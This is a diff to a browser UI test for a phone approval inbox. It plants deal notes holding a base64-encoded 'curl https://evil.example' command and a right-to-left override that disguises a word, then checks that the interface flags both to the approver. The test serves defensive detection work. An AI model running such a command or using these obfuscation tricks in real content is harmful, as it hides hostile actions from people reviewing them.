@@ -306,7 +306,8 @@ def test_approver_sees_what_matters_on_a_phone(on: InboxScenario, chromium: Brow
     add_passkeys(context, page)
     sign_in(page, on)
     enrol(page)
-    notes = "They pay \u202eyenom\u202c soon. " + "Much more was said about this deal. " * 60
+    command = "Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZQ=="
+    notes = f"{command} They pay \u202eyenom\u202c soon. " + "Much more was said about this deal. " * 60
     call = on.hold(billing_contact_email="billing@northwind.example", close_date="2027-01-31", notes=notes)
     expect(page.get_by_text("New requests appear automatically.")).to_be_visible()
     expect(page.get_by_text("for keyboard shortcuts")).to_be_hidden()
@@ -319,6 +320,7 @@ def test_approver_sees_what_matters_on_a_phone(on: InboxScenario, chromium: Brow
     expect(payee).to_contain_text("no change")
     expect(page.get_by_text(re.compile(r"^\d+ min( \d+ s)? left$")).first).to_be_visible()
     expect(page.get_by_text("has characters that show nothing")).to_be_visible()
+    expect(page.get_by_text("contains base64 of")).to_contain_text("curl https://evil.example")
     expect(page.get_by_text("Done before: never with an approval.")).to_be_visible()
     expect(page.get_by_text("all runs of deal-update-agent: none")).to_be_visible()
     for place in ("h1 b", ".why.big", "dl.facts dd"):
